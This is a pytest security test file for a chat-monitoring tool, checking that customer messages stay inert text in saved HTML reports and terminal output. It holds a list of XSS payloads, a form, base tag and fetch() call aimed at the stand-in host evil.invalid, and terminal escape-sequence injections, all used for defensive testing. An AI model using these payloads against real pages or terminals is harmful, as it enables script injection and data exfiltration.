"""What customers wrote stays text in every page, file and terminal: a report is opened as a saved file in a browser."""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from rich.console import Console
from selenium.webdriver import Chrome, ChromeOptions
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.by import By
from selenium.webdriver.support.ui import WebDriverWait

from monitoring.page import harmless, secured
from monitoring.reports import DATA, KINDS, NUMBERS, TEXTS, render
from shoptalk.cli.output import show
from shoptalk.demo.stage import Demo
from shoptalk.terminal import printable
from tests.chatbot.test_browser import DRIVER, FLAGS, require

ATTACKS = (
    "</script><script>document.title='owned'</script>",
    "<!--<script>document.title='owned'",
    "<img src=x onerror=\"document.title='owned'\">",
    "<svg onload=\"document.title='owned'\"></svg><a href=\"javascript:document.title='owned'\">owned link</a>",
    "\u2028document.title='owned'//\u2029",
    "&lt;/script&gt;&lt;script&gt;document.title='owned'&lt;/script&gt;",
    "'; document.title='owned'; //",
    '<a href="https://evil.invalid/owned">owned</a><meta http-equiv="refresh" content="0;url=https://evil.invalid/">',
)
WORDS = ("order", "parcel", "late", "refund", "please", "kettle", "lamp", "where", "return", "broken", "friday")


def rows(hostile: bool) -> Any:
    """Messages, of which a third in a flooded window are the attacks."""
    import pandas as pd

    chance = random.Random(1 + hostile)
    made = []
    for i in range(160):
        attack = ATTACKS[i // 3 % len(ATTACKS)] if hostile and i % 3 == 0 else None
        text = " ".join(chance.choices(WORDS, k=8))
        made.append({
            "message": attack or text, "reply": attack or f"We see: {text}", "message_language": attack or "en",
            "message_topic": attack or f"topic {i % 4}", "message_words": float(i % 9),
            "message_sentiment": chance.random(), "reply_words": float(i % 7), "reply_refuses": 0.0,
            "reply_logprob": -chance.random(), "thumbs": float("nan"), "turns": 2,
        })  # fmt: skip
    return pd.DataFrame(made, columns=[*TEXTS, *KINDS, *NUMBERS])


@pytest.fixture(scope="module")
def report() -> str:
    html, _ = render(rows(False), rows(True), f"Drift {ATTACKS[0]}")
    return html.decode()


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Chrome]:
    require(Path(DRIVER).exists(), "chromium-driver is not installed")
    options = ChromeOptions()
    options.binary_location = "/usr/bin/chromium"
    for flag in (*FLAGS, f"--user-data-dir={tmp_path_factory.mktemp('chromium')}"):
        options.add_argument(flag)
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    driver = Chrome(options=options, service=Service(DRIVER))
    yield driver
    driver.quit()


def opened(browser: Chrome, path: Path) -> str:
    """Open a saved page, wait until it has drawn, and return its text."""
    browser.get(path.as_uri())
    WebDriverWait(browser, 60).until(lambda b: b.find_elements(By.CSS_SELECTOR, "svg.main-svg"))
    WebDriverWait(browser, 60).until(lambda b: "Row count" in b.find_element(By.TAG_NAME, "body").text)
    return browser.find_element(By.TAG_NAME, "body").text


@pytest.mark.browser
@pytest.mark.slow
def test_no_script_of_a_message_runs_in_a_saved_report(browser: Chrome, report: str, tmp_path: Path) -> None:
    (tmp_path / "report.html").write_text(report)
    text = opened(browser, tmp_path / "report.html")
    assert browser.title != "owned"
    assert len(browser.find_elements(By.CSS_SELECTOR, "svg.main-svg")) >= 10  # its charts are there
    assert "Drift in column 'message'" in text
    for link in browser.find_elements(By.CSS_SELECTOR, "a[href]"):  # chart libraries make links of labels' markup
        assert "owned" not in (link.get_attribute("href") or "")
    script = (
        "return [...document.querySelectorAll('text, td, th, p, div')].some(e => e.textContent.includes(arguments[0]))"
    )
    assert browser.execute_script(script, harmless(ATTACKS[0])), "the message is shown, as text"
    blocked = [entry["message"] for entry in browser.get_log("browser") if entry["level"] == "SEVERE"]
    assert blocked == []  # the page needs nothing that its policy forbids


@pytest.mark.browser
@pytest.mark.slow
def test_the_policy_alone_holds_too(browser: Chrome, report: str, tmp_path: Path) -> None:
    """Markup that came past everything else: it does not run, and calls nobody."""
    markup = "".join(a for a in ATTACKS if "<!--" not in a and "refresh" not in a)  # no policy stops a page that leaves
    form = "<form id=f action='https://evil.invalid/'></form><base href='https://evil.invalid/'>"
    head, _, tail = report.rpartition("</body>")
    broken = f"{head}{form}{markup}</body>{tail}"
    (tmp_path / "report.html").write_text(broken)
    opened(browser, tmp_path / "report.html")
    browser.execute_script("document.getElementById('f')?.submit(); fetch('https://evil.invalid/').catch(() => 0)")
    assert browser.title != "owned"
    assert browser.current_url.startswith("file:")
    said = " ".join(entry["message"] for entry in browser.get_log("browser"))
    assert "script-src" in said
    assert "connect-src" in said or "default-src" in said


@pytest.mark.browser
def test_a_page_without_these_guards_runs_the_script(browser: Chrome, tmp_path: Path) -> None:
    """The attack works where nothing is escaped, so the tests above would see it."""
    (tmp_path / "open.html").write_text(f'<html><head><script>\nvar data = "{ATTACKS[0]}";\n</script></head></html>')
    browser.get((tmp_path / "open.html").as_uri())
    assert browser.title == "owned"


@pytest.mark.slow
def test_nothing_of_a_message_is_markup_in_the_page(report: str) -> None:
    for attack in ATTACKS:
        assert (attack in report) == (attack == harmless(attack))
    lines = DATA.findall(report)
    assert len(lines) == 2
    assert not set("".join(lines)) & set("<>&\u2028\u2029")
    assert report.index("Content-Security-Policy") < report.index("<script>")
    assert "'unsafe-inline'" not in report[: report.index("style-src")]


@pytest.mark.parametrize(
    "html", ["<head></head>", "<html>var metric_1 = {};</html>", "<script></script><head>\nvar metric_0 = 1;\n"]
)
def test_another_page_than_expected_is_not_written(html: str) -> None:
    with pytest.raises(ValueError, match="not structured as expected"):
        secured(html, DATA)


MARKUP = (
    "[link=https://evil.invalid/]refund[/link] [/nothing] \x1b]0;owned\x07\x1b[2J\x9b31m \u202edrawer\u200b"
    "\r\nshop: paid"
)


def test_text_of_others_does_not_act_on_a_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    show({"turn 1": MARKUP, "more": [MARKUP, {"text": MARKUP}]}, as_json=False)
    show([{"id": "qua_1", "reason": MARKUP}], as_json=False)
    show({"turn 1": MARKUP}, as_json=True)
    Demo.say(SimpleNamespace(console=Console()), MARKUP)  # type: ignore[arg-type]
    printed = capsys.readouterr().out
    assert not set(printed) & {"\x1b", "\x07", "\x9b", "\r", "\u202e", "\u200b"}
    assert "\nshop: paid" not in printed.split('"turn 1"')[0]
    assert printed.count("[/nothing]") >= 3
    assert "\\x1b" in printed
    assert json.loads(printed[printed.index("{\n") : printed.rindex("}") + 1])["turn 1"] == MARKUP


@pytest.mark.parametrize("text", ["", "Größe 42 – 你好 🙂", "a\\b 'c' [d]"])
def test_other_text_is_printed_as_it_is(text: str) -> None:
    assert printable(text) == text
